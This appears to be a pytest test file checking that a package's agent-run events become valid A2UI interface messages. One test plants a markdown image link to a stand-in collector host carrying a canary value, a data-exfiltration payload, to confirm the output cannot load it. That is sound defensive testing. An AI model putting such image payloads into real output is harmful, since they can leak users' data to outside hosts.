"""Protocol messages in the basic catalogue, judged by the official packages."""

import pytest
from a2ui.core import (
    A2uiError,
    MessageProcessor,
    MessageProcessorOptions,
    ValidationConfig,
    is_valid_uax31_identifier,
)
from a2ui.core.basic_catalog.v0_9 import BasicCatalog
from a2ui.official import faults
from a2ui.told import Told, every_type

from bread_nb import crumbs as c
from bread_nb.a2ui import messages
from bread_nb.a2ui.checks import check_components
from bread_nb.errors import BreadError

VERSIONS = ["v0.9", "v1.0"]


def components(sent: list) -> dict:
    """The components as they stand after these messages, by id."""
    known = {}
    for message in sent:
        for component in message.get("updateComponents", {}).get("components", []):
            known[component["id"]] = component
    return known


def test_the_crumbs_of_these_tests_are_of_every_type_there_is():
    kinds = {kind for name, kind in vars(c).items() if name in c.__all__}
    kinds -= {c.Crumb, c.ErrorInfo, c.from_wire, c.to_wire}
    assert kinds - {type(crumb) for crumb in every_type()} == {c.RunFailed}


@pytest.mark.parametrize("version", VERSIONS)
def test_every_crumb_type_gives_messages_that_fit_the_official_schema(version):
    crumbs = every_type()
    sent = messages(crumbs, version=version)
    assert [fault for message in sent for fault in faults(message, version)] == []
    assert all(message["version"] == version for message in sent)


@pytest.mark.parametrize("version", VERSIONS)
def test_a_failed_and_a_cancelled_run_fit_too(version):
    for code in ("MODEL_UNREACHABLE", "RUN_CANCELLED"):
        told = Told().start().call("1", "plot").fail(code, "No answer.", "try again")
        sent = messages(told.crumbs, version=version)
        assert [fault for m in sent for fault in faults(m, version)] == []


def test_each_crumb_alone_is_shown_without_a_run_that_began():
    for crumb in every_type():
        sent = messages([crumb])
        assert [fault for m in sent for fault in faults(m, "v0.9")] == []


def processor() -> MessageProcessor:
    """The official processor; the protocol cannot take a component away again."""
    config = ValidationConfig(allow_orphan_components=True)
    options = MessageProcessorOptions(validation_config=config)
    return MessageProcessor([BasicCatalog()], options=options)


def test_the_official_processor_takes_the_messages_of_every_type():
    processor().process_messages(messages(every_type()))


def test_the_official_processor_would_have_told_of_a_mistake():
    sent = messages(every_type())
    sent[1]["updateComponents"]["components"][0]["colour"] = "red"
    with pytest.raises(A2uiError):
        processor().process_messages(sent)


def test_at_every_point_the_tree_hangs_together():
    crumbs = every_type()
    for end in range(1, len(crumbs) + 1):
        known = components(messages(crumbs[:end]))
        assert check_components(list(known.values())) == []


def test_ids_are_identifiers():
    sent = messages(every_type())
    names = [*components(sent), sent[0]["createSurface"]["surfaceId"]]
    assert [name for name in names if not is_valid_uax31_identifier(name)] == []


def test_a_run_has_one_surface_and_its_sub_agents_are_on_it():
    sent = messages(every_type())
    surfaces = {
        body["surfaceId"]
        for message in sent
        for body in message.values()
        if isinstance(body, dict)
    }
    assert surfaces == {"run_run_1"}


def test_a_second_run_gets_a_surface_of_its_own():
    first = Told(run="a-1").start().end("x").crumbs
    second = Told(run="b-2").start().end("y").crumbs
    sent = messages([*first, *second])
    started = [m["createSurface"]["surfaceId"] for m in sent if "createSurface" in m]
    assert started == ["run_a_1", "run_b_2"]


def test_text_is_sent_once_a_stretch_and_not_once_a_delta():
    told = Told().start()
    for _ in range(1000):
        told.text("flour ")
    sent = messages(told.used(5).end("x").crumbs)
    assert len(sent) < 20
    assert any("flour " * 1000 in str(message) for message in sent)


def test_text_of_a_model_loads_nothing_by_itself():
    told = Told().start().text("![x](https://collector.example/p?d=CANARY)")
    sent = messages(told.end("x").crumbs)
    assert "![" not in str(sent).replace("\\\\", "\\").replace("\\!\\[", "")


def test_a_click_of_a_portable_form_names_the_checkpoint_and_what_was_shown():
    told = Told().start().ask("1", "publish", title="Rye")
    known = components(messages(told.crumbs))
    event = known["t1b2_approve"]["action"]["event"]
    assert event["name"] == "answer"
    assert event["context"]["checkpoint"] == "check-1"
    assert event["context"]["approved"] is True
    assert len(event["context"]["shown"]) == 64


def test_a_settled_form_has_no_buttons_any_more():
    told = Told().start().ask("1", "publish").answer("1", {"approved": False})
    known = components(messages(told.crumbs))
    assert known["t1b2_all"]["children"] == ["t1b2_title", "t1b2_end"]


def test_another_version_is_refused_with_the_versions_there_are():
    with pytest.raises(BreadError) as refused:
        messages([], version="v0.8")  # pyright: ignore[reportArgumentType]
    assert refused.value.code == "A2UI_VERSION"
